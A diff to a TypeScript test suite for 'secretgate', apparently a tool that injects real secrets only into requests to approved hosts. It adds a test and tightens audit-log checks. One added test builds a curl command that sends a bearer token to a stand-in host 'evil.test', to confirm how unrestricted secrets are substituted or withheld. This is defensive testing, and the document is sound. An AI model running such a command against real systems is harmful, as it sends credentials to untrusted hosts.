@@ -5,7 +5,7 @@
  * see (its environment, the echoed response) holds only the placeholder.
  */
 import { spawn, spawnSync } from "node:child_process"
-import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs"
+import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs"
 import { tmpdir } from "node:os"
 import { join } from "node:path"
 import { fileURLToPath } from "node:url"
@@ -136,6 +136,22 @@ describe.skipIf(!CURL)("secretgate run -- curl", () => {
     expect(upstream.received.length).toBe(before + 1)
   }, 300_000)
 
+  it("a secret without hosts: substituted anywhere with a warning by default, withheld with --unrestricted deny", async () => {
+    const created = await secretgate(["secret", "create", "anyhost"], { env: { SECRETGATE_STORE: store }, input: VALUE })
+    expect(created.code).toBe(0)
+    const trustBoth = `cat "$CURL_CA_BUNDLE" ${CA_FILE} > "$TMPDIR/both.pem" && curl --cacert "$TMPDIR/both.pem"`
+    const curl = `${trustBoth} -sS --fail -o /dev/null -H "Authorization: Bearer $ANY" ${url("evil.test", "/echo")}; code=$?; rm -f "$TMPDIR/both.pem"; exit $code`
+    const allowed = await run(["--mount", "ANY=anyhost"], ["sh", "-c", curl])
+    expect(allowed.code).toBe(0)
+    expect(lastReceived().headers["authorization"]).toBe(`Bearer ${VALUE}`)
+    expect(allowed.stderr).toContain("anyhost: 1 substituted, 0 withheld, 0 blocked — the secret has no hosts: its value went to every host asked for")
+    const denied = await run(["--mount", "ANY=anyhost", "--unrestricted", "deny"], ["sh", "-c", curl])
+    expect(denied.code).toBe(0)
+    expect(lastReceived().headers["authorization"]).toMatch(/^Bearer sg_secret_/)
+    expect(denied.stderr).toContain("anyhost: 0 substituted, 0 withheld, 0 blocked") // tunnelled: nothing may be substituted
+    expect(denied.stderr).toMatch(/0 intercepted, 1 tunnelled/)
+  }, 300_000)
+
   it("writes the audit events as JSON lines, without a value", async () => {
     const auditFile = join(root, "audit.jsonl")
     const result = await run(["--mount", "OPENAI_API_KEY=openai", "--audit", auditFile, "--quiet"], [
@@ -145,10 +161,22 @@ describe.skipIf(!CURL)("secretgate run -- curl", () => {
     expect(result.stderr).toBe("")
     const text = readFileSync(auditFile, "utf8")
     expect(text).not.toContain(VALUE)
+    expect(statSync(auditFile).mode & 0o777).toBe(0o600)
     const events = text.trim().split("\n").map((line) => JSON.parse(line) as { type: string; secret?: string; host?: string })
     expect(events).toEqual(expect.arrayContaining([
-      expect.objectContaining({ type: "intercepted", host: "api.allowed.test" }),
-      expect.objectContaining({ type: "substituted", secret: "openai", host: "api.allowed.test" })
+      expect.objectContaining({ type: "intercepted", host: "api.allowed.test", time: expect.any(String) }),
+      expect.objectContaining({
+        type: "substituted",
+        secret: "openai",
+        host: "api.allowed.test",
+        port: upstream.port,
+        method: "GET",
+        path: "/echo",
+        surface: "header",
+        unrestricted: false,
+        sandbox: expect.any(String),
+        time: expect.any(String)
+      })
     ]))
   }, 300_000)
 })
